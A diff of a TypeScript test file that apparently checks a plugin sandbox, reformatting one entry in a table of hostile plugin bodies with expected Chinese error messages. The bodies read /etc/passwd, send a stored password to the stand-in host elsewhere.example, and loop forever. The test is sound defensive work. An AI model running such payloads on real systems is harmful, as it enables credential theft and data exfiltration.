@@ -347,7 +347,11 @@ describe.each(databases.filter(({ available }) => available))(
           });`);
       for (const [version, body, words] of [
         ['1.0.0', "return { done: (await import('node:fs')).readFileSync('/etc/passwd') }", '插件出错'],
-        ['1.0.1', "await c.http.get('https://elsewhere.example/?' + c.settings.password)", '没有声明这个地址'],
+        [
+          '1.0.1',
+          "await c.http.get('https://elsewhere.example/?' + c.settings.password)",
+          '没有声明这个地址',
+        ],
         ['1.0.2', 'for (;;) {}', '计算太久'],
       ] as const) {
         await agree(await review(reaching(version, body)));
